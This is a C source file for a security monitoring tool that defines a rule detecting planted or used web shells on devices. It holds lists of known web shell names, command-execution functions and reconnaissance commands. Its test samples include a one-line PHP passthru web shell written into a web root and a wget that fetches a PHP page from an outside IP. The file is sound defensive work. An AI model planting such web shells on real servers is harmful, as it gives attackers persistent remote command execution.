#include "detect/command_facts.h"
#include "detect/rule.h"

static const char *const words[] = {"<?php", "<%", "c99", "r57", "b374k", "weevely", "wso.php", "wso2", "/www", "/htdocs", "webapps", "/html", "sh", NULL};
static const char *const known[] = {"c99.php", "c99shell", "r57.php", "r57shell", "b374k", "weevely", "wso.php", "wso2.php", "p0wny", "antsword", NULL};
static const char *const runs[] = {"eval", "system", "passthru", "shell_exec", "assert", "popen", "proc_open", "exec", "getRuntime", NULL};
static const char *const decoders[] = {"base64", "base32", "xxd", "openssl", "uudecode", NULL};
static const char *const web_users[] = {"www-data", "apache", "nginx", "httpd", "lighttpd", "http", "www", "tomcat", NULL};
static const char *const first_commands[] = {"id", "whoami", "uname", "pwd", "ifconfig", "netstat", "wget", "curl", "tftp", "nc", "cat", "ls", "ps", "w", NULL};

static bool is_web_page(struct text path)
{
    static const char *const ends[] = {".php", ".phtml", ".jsp", ".jspx", ".asp", ".aspx", ".cgi", ".php5", NULL};
    static const char *const roots[] = {"/var/www/", "/srv/www/", "/srv/http/", "/www/", "/htdocs/", "/usr/share/nginx/", "/webapps/", "/public_html/", NULL};
    bool page = false;

    for (size_t i = 0; ends[i]; i++)
        page = page || text_ends(path, text_of(ends[i]));
    for (size_t i = 0; page && roots[i]; i++)
        if (text_contains_nocase(path, roots[i]))
            return true;
    return false;
}

static const char *planted(const struct command *command)
{
    struct text source, target;

    if (command_downloads(command, &source, &target) && target.bytes && is_web_page(target))
        return "a page is downloaded into the web server's folder";
    for (size_t i = 0; i < command->output_count; i++)
        if (text_among(command->name, decoders) && is_web_page(command->outputs[i]))
            return "a page is decoded into the web server's folder";
    for (size_t i = 0; i < command->word_count; i++) {
        struct text word = command->words[i];
        for (size_t k = 0; known[k] && !command_only_mentions(command); k++)
            if (text_contains_nocase(word, known[k]))
                return "it bears the name of a known web shell";
        if (!text_contains_nocase(word, "<?php") && !text_contains_nocase(word, "<?=") && !text_contains_nocase(word, "<%"))
            continue;
        for (size_t k = 0; runs[k]; k++)
            if (text_contains_nocase(word, runs[k]) && command->output_count)
                return "a page that runs what it is sent is written";
    }
    return NULL;
}

static void judge(struct judging *judging)
{
    const struct command_line *line = judging->line;
    const struct event *event = judging->event;

    for (size_t i = 0; i < line->count; i++) {
        const char *wrong = planted(&line->commands[i]);
        if (wrong) {
            finding_command(judging, &line->commands[i], wrong);
            return;
        }
    }
    if (!line->count || !text_among(event->user, web_users) || !command_is_shell(&line->commands[0]) || !command_has_letter(&line->commands[0], 'c'))
        return;
    for (size_t i = 1; i < line->count; i++)
        if (text_among(line->commands[i].name, first_commands)) {
            struct finding *finding = finding_command(judging, &line->commands[i], "the web server's user runs a shell that looks around");
            finding_reason(finding, "UserName", TEXT("it is the web server's user"), event->user);
            return;
        }
}

static const struct rule_sample samples[] = {
    {true, "$ sh -c 'echo \"<?php passthru($_GET[0]); ?>\" > /var/www/html/x.php'"},
    {true, "$ wget -O /www/cgi-bin/../status.php http://198.51.100.7/s.txt"},
    {true, "ProcessCreate {\"Executable\":\"/bin/dash\",\"CommandLine\":\"sh -c uname -a; id\",\"UserName\":\"www-data\",\"ProcessId\":9,\"ParentProcessId\":8}"},
    {true, "$ sh -c echo PD9waHAg | base64 -d > /www/x.php"},
    {false, "$ sh -c base64 -d /tmp/logo.b64 > /var/www/html/logo.png"},
    {false, "$ wget -O /var/www/html/logo.png https://cdn.example.org/logo.png"},
    {false, "ProcessCreate {\"Executable\":\"/bin/dash\",\"CommandLine\":\"sh -c /usr/sbin/sendmail -t\",\"UserName\":\"www-data\",\"ProcessId\":9,\"ParentProcessId\":8}"},
    {false, "$ php /var/www/html/artisan schedule:run"},
};

const struct rule rule_web_shell = {
    .id = "IoT_WebShell",
    .title = "A web shell was planted or used",
    .severity = "High",
    .tactics = "Persistence, Execution",
    .techniques = "T1505.003, T0866",
    .fires = "A page that runs what it is sent is written; a page is downloaded or decoded into a web server's folder; the name of a known web shell; a shell "
             "of the web server's user that looks around (`id`, `uname`, `wget` …).",
    .spares = "Pictures and data downloaded there; shells of the web server's user that do their work, such as sending mail.",
    .needs = "Processes with their command lines; for the last of these their users.",
    .tuning = "An exception for the device's own web pages that call such commands; better, let them call none.",
    .remediation = rule_ask_user,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .judge = judge,
    RULE_SAMPLES(samples),
};
